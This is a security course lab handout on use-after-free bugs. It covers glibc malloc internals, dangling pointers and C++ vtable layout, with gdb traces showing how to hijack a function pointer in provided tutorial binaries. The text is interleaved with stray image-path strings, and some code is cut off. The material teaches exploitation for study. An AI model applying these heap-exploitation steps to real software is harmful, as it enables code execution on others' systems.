Lab 10 - Use After Free


Use-after-free refers to a class of bugs in which the data from a memory region is still used after the region is freed. The most common causes of use-after-free bugs are:

  • Wrongly handled error conditions
  • Unaccounted for program states
  • Confusion over which part of the program is responsible for freeing the memory

Such bugs can have various adverse consequences:

  • crashes
  • corruption of valid data
  • arbitrary code execution

An use-after-free bug is exploitable if the program can be brought in a state in which it can allocate memory over the freed area. This gives the attacker control over what data is accessed after the free.

In terms of function calls on a Linux system, as attackers, we need to force a malloc of the same or similar size after the free. In the correct circumstances the subsequent malloc will return the same pointer as the previous call (or a pointer to a region that overlaps the previous one).

Heap Allocation

The standard method of allocating/freeing memory in a Linux C program is by using the malloc/free C library functions. Equivalently the C++ primitives are new and delete. The difference between malloc/free and new/delete is that new and delete, in addition to memory allocation, also call the associated constructor/destructor of the allocated type.

The innards of malloc aren't trivial to understand so we will work with more of a general overview of what itdoes and how can we predict what it will do so we can create a repeatable exploit.

Thefirst thing worth mentioning is that not all addresses returned by malloc reside in what we call the heap.

malloc has 2 ways of allocating memory:

  • on the heap
    • a memory region in continuation of .data which can be resized with the brk and sbrk system calls
    • for small sizes (default is < 128 KB)
  • in the mmap region
    • above the stack and shared library zones generally, done using the mmap system call
    • for large sizes (default is > 128 KB)

The 2 regions can be seen below in red and green respectively:

When dealing with structures allocated on the heap we shouldn't dwell too much with the mmap case; most of the times structures and classes are in the range of 10's or 100's of bytes.

The minimum allocation size is 4 * ptr_size (16 for 32-bit and 32 for 64-bit). Even if calling malloc(0) it will return a valid pointer to a region of minimum size.

The internal size (real size) is stored in memory immediately before the buffer returned by malloc. You can access it doing some C magic:

void* ptr = malloc(100);
unsigned long size = ((unsigned long*)ptr)[-1] & ~7;The & ~7 is added to 0 out the last 3 bits which are actually flags and not part of the size. These bits are:

  • bit 0 - PREV_INUSE - This bit is set when previous chunk is allocated.
  • bit 1 - IS_MMAPPED - This bit is set when chunk is mmap’d.
  • bit 2 - NON_MAIN_ARENA - This bit is set when this chunk belongs to a thread arena.

When allocating on the heap malloc uses various other methods ofallocating small data regions (arena based allocation with multiple bins of different sizes):

  • Fast bins
  • Unsorted bins
  • Small bins
  • Large bins

Check Understanding glibc malloc for more details.

Use the program from 00-malloc-addr to see how malloc manifests for different sizes. The program does pairs of malloc + free to inspect for what range of sizes will the returned pointer be the same. It also does the trick from the note above to take the real size and the flags.

Example output:$ ./malloc_addr
Range [1, 504] with jump of 1:
Addr: 0x93b2a0; Size: 24 B; Internal size: 32 B; Count = 24
prev_inuse = 1; is_mmaped = 0; non_main_arena = 0
Addr: 0x93b2c0; Size: 40 B; Internal size: 48 B; Count = 16
prev_inuse = 1; is_mmaped = 0; non_main_arena = 0
Addr: 0x93b2f0; Size: 56 B; Internal size: 64 B; Count = 16
prev_inuse = 1; is_mmaped = 0; non_main_arena = 0
Addr: 0x93d190; Size: 504 B; Internal size: 512 B; Count = 16
prev_inuse = 1; is_mmaped = 0; non_main_arena = 0
Range [33554432, 33619967] with jump of 1024:
Addr:0x7f67090a5010; Size: 32 MB; Internal size: 32 MB; Count = 4
prev_inuse = 0; is_mmaped = 1; non_main_arena = 0
Addr: 0x7f6709096010; Size: 32 MB; Internal size: 32 MB; Count = 4
prev_inuse = 0; is_mmaped = 1; non_main_arena = 0
Range [33554432, 33619967] with jump of 4096:
Addr: 0x7f67090a5010; Size: 32 MB; Internal size: 32 MB; Count = 1
prev_inuse = 0; is_mmaped = 1; non_main_arena = 0
Addr: 0x7f6709096010; Size: 32 MB; Internal size: 32 MB; Count = 1
prev_inuse = 0; is_mmaped = 1; non_main_arena = 0

What to look for:

  • internal size > size sent to malloc
  • internal size is at least size sent to malloc + 8 (the hidden sizevalue)
  • for [0, 32] (internal) bytes the address will fall in the same place
  • for [32+16*k+1, 32+16*k+16] (internal) bytes the address will fall in the same place
  • for large sizes the is_mmaped bit is set
  • for large sizes, if the size is in the range of [x, x+PAGE_SIZE] it will fall in the same place

For a in-depth understanding of how malloc works check:

Dangling Pointers

A dangling pointer is a pointer variable through which the freed memory is accessed. For example:

char* p = malloc(100); // memory allocated, p is valid
free(p); // p is freed
puts(p); // when puts is called p is a dangling pointer

When building an exploit based on an use-after-free bug the most important aspect is the data type of the underlying dangling pointer/s. This determines how the attacker injected data is interpreted. If the data structure doesn't influence the control flowof the program then it is not exploitable.

When checking for use-after-free bugs we should also check what heap data points to code or is used in conditional statements (affects the control flow of the program).

struct a {
    int x;
    int y;
struct b {
    int id;void (*foo)(void);
struct a* a;
struct b* b;
printf("%d %d\n", a->x, a->y);

Out of the 2 structures above we should aim to create a dangling pointer of type struct b because it contains a code pointer.


Enter the 00-c-tutorial/ directory and check the source code for bugs.

We can see that in the default case of the switch the object is freed but the program continues:

    printf("Invalid command\n");

The post_action_msg buffer is conveniently allocated to a size similar to that of struct person and fgets is used to readsomething in the newly allocated buffer.

We also notice the members of struct person:

struct person {
    void (*action_func)(struct person*); // ԅ(≖‿≖ԅ)
    char name[32];

It contains a code pointer which we can overwrite in our exploit.

First lets validate that both calls to malloc return the same address. The returned address should be in the $rax register after the call.

   0x4011c8 <main+4>:   sub    rsp,0x20
   0x4011cc <main+8>:   mov    edi,0x28
   0x4011d1 <main+13>:  call   0x401090 <malloc@plt>
=> 0x4011d6 <main+18>:  mov    QWORD PTR [rbp-0x10],rax
gdb-peda$ p/x $rax
$1 = 0x4052a0

Give the program appropriate input so that it reaches the default case. In the following example I send random_name to the first fgets and 3 (which is an invalid case) to fgetc.

   0x401209 <main+69>:  mov    esi,0x20
   0x40120e <main+74>:  mov    rdi,rcx
=> 0x401211 <main+77>:  call   0x401080 <fgets@plt>
   0x401257 <main+147>: mov    rax,QWORD PTR [rip+0x2e02]        # 0x404060<stdin@@GLIBC_2.2.5>
   0x40125e <main+154>: mov    rdi,rax
=> 0x401261 <main+157>: call   0x401070 <fgetc@plt>

Eventually we reach the call to free.

   0x4012b7 <main+243>: mov    rax,QWORD PTR [rbp-0x10]
   0x4012bb <main+247>: mov    rdi,rax
=> 0x4012be <main+250>: call   0x401030 <free@plt>

We see that the second malloc returns the same address.

   0x4012c3 <main+255>: mov    edi,0x28
   0x4012c8 <main+260>: call   0x401090 <malloc@plt>
=> 0x4012cd <main+265>: mov    QWORD PTR [rbp-0x8],rax
gdb-peda$ p/x $rax
$2 = 0x4052a0Send some random input to fgets to overwrite the function pointer.

   0x4012e8 <main+292>: mov    esi,0x28
   0x4012ed <main+297>: mov    rdi,rax
=> 0x4012f0 <main+300>: call   0x401080 <fgets@plt>

Afterward we reach the following code where it tries to call rdx. If we print its value we see that its value coincides with the 8 bytes read with the previous fgets.

   0x4012fc <main+312>: mov    rax,QWORD PTR [rbp-0x10]
   0x401300 <main+316>: mov    rdi,rax
=> 0x401303 <main+319>: call   rdx
gdb-peda$ p/x $rdx
$3 = 0x4141414141414141

Put it all together and replace “AAAAAAAA” with the address of bad_func to create an appropriate exploit. Pwntool code below:

from pwn import *
elf = ELF('./c_tut')
io = process('./c_tut')

Virtual Function Tables

Though function pointers inside structures in C code seem a bit esoteric, in object oriented languages (like C++) they are standard practice but overlooked due to the added layers of abstraction. Most of the times C programs that use these kinds of structures try to emulate an object oriented style.In object oriented languages virtual method tables (or virtual function tables) are used to facilitate polymorphism and inheritance. An object will contain a pointer to a list of functions (only the virtual ones) so that it maintains the methods of its type even if cast to another one upper in the inheritance tree.

C++ objects memory layout

class B {
  int a, b;
  virtual void f(void);
class B1 {
  int x, y;
  virtual void z(void);
classD: public B, public B1 {
  int c, d;
  void f(void);
  void z(void);
int main()
  D objD; B1 * ptrB1;
  ptrB1 = &objD;

We can see in the example below how the structure of a C++ objects looks like. The object is a compound of its parents' members and its own. As class D overrides both virtual functions f and z the virtual tables inside of D will contain its own methods.

When doing an upcast (cast to a parent class) the pointer is just offset to the correct subobject (e.g.: when casting to B1 ptrB1 will start from PVTable1).When doing multiple inheritance there is no specific order of the subobjects inside the object.

We can also use the compiler to see the data layout. Copy the code above into a file dummy.cpp.

Then run:

$ clang -cc1 -fdump-record-layouts dummy.cpp
*** Dumping AST Record Layout
         0 | class B
         0 |   (B vtable pointer)
         8 |   int a
        12 |   int b
           | [sizeof=16, dsize=16, align=8,
           |  nvsize=16, nvalign=8]
*** Dumping AST Record Layout
         0 | class B1
         0 |   (B1 vtable pointer)
         8 |   int x
        12 |   int y| [sizeof=16, dsize=16, align=8,
           |  nvsize=16, nvalign=8]
*** Dumping AST Record Layout
         0 | class D
         0 |   class B (primary base)
         0 |     (B vtable pointer)
         8 |     int a
        12 |     int b
        16 |   class B1 (base)
        16 |     (B1 vtable pointer)
        24 |     int x
        28 |     int y
        32 |   int c
        36 |   int d
           | [sizeof=40, dsize=40, align=8,
           |  nvsize=40, nvalign=8]


Go to the 00-cpp-tutorial/ directory and look at the source code.

The bug is related to an error check prematurely deleting the object:

A *a = new A(x);
if (x < 0)
    delete a;  // <- pointer is deleted
std::cout << header << ":" << a->negate() << "\n"; <- object still used

Before calling the object method a new buffer is allocated and read:

char *header = new char[16];
std::cin.getline(header, 16);

Remember that virtual functions exist in a virtual function table so we not only need the address of a target function to call, but also the address of an array containing the function address.

Luckily the program already provides an array containing bad_func:

void (*func_list[3])(uint64_t) = { bad_func };

Remember that non-static class methods take an implicit this argument:

class Foo {
    void bar(int x, int y);Here the bar method takes 3 arguments. Translated to C:

struct Foo {
    void (*bar)(struct Foo*, int, int);

Lets check how the method call is done in assembly:

   0x0000000000401259 <+92>:    mov    rdi,rbx                  <- first arg (this)
   0x000000000040125c <+95>:    call   0x40138c <A::A(int)>     <- constructor
